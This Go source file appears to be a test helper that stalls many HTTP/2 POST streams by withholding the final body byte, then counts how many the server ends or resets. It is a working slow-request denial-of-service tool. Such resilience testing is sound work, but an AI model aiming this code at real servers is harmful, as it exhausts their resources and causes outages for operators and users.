package attacks

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Streams are HTTP/2 requests whose bodies stop before their last byte, many on each connection.
type Streams struct {
	conns []net.Conn
	ended atomic.Int32
	reads sync.WaitGroup
}

// StallStreams opens HTTP/2 connections from an address, and on each so many requests to a path, which declare bodies of so many
// bytes and send all but the last one. It returns once all are sent. Call Close.
func StallStreams(ctx context.Context, from net.Dialer, address, path string, connections, streams, size int) (*Streams, error) {
	s := &Streams{}
	for range connections {
		conn, err := from.DialContext(ctx, "tcp", address)
		if err != nil {
			s.Close()
			return nil, err
		}
		s.conns = append(s.conns, conn)
		if err := s.stall(conn, path, streams, size); err != nil {
			s.Close()
			return nil, err
		}
	}
	return s, nil
}

// stall sends the requests of one connection in one piece, and counts those that the server ends.
func (s *Streams) stall(conn net.Conn, path string, streams, size int) error {
	var out, block bytes.Buffer
	out.WriteString(http2.ClientPreface)
	framer, encoder := http2.NewFramer(&out, conn), hpack.NewEncoder(&block)
	_ = framer.WriteSettings() // writes to memory do not fail
	body := append([]byte(`{"model":"m","prompt":"`), bytes.Repeat([]byte("a"), size)...)[:size-1]
	for i := range streams {
		block.Reset()
		for _, h := range [][2]string{
			{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "localhost"},
			{"content-type", "application/json"}, {"content-length", strconv.Itoa(size)},
		} {
			_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
		}
		id := uint32(2*i + 1)
		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
		_ = framer.WriteData(id, false, body)
	}
	s.reads.Go(func() {
		ended := map[uint32]bool{}
		for {
			f, err := framer.ReadFrame()
			if err != nil {
				return
			}
			h := f.Header()
			if id := h.StreamID; (h.Type == http2.FrameHeaders || h.Type == http2.FrameRSTStream) && !ended[id] {
				ended[id] = true
				s.ended.Add(1)
			}
		}
	})
	_ = conn.SetWriteDeadline(time.Now().Add(time.Minute))
	if _, err := io.Copy(conn, &out); err != nil {
		return fmt.Errorf("the server does not read: %w", err)
	}
	return nil
}

// Ended is how many the server has answered or reset.
func (s *Streams) Ended() int { return int(s.ended.Load()) }

// Close ends all of them.
func (s *Streams) Close() {
	for _, c := range s.conns {
		_ = c.Close()
	}
	s.reads.Wait()
}
